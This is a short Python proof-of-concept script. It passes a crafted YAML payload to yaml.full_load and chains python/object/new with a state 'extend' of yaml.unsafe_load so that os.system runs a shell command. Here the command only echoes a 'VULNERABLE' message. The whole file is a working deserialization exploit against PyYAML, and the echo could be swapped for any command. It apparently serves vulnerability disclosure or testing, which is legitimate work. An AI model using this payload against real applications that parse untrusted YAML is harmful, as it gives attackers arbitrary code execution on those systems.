import yaml
doc = """
- !!python/object/new:yaml.MappingNode
  listitems: !!str '!!python/object/apply:os.system ["echo VULNERABLE: yaml.full_load ran a shell command"]'
  state:
    tag: !!str dummy
    value: !!str dummy
    extend: !!python/name:yaml.unsafe_load
"""
yaml.full_load(doc)
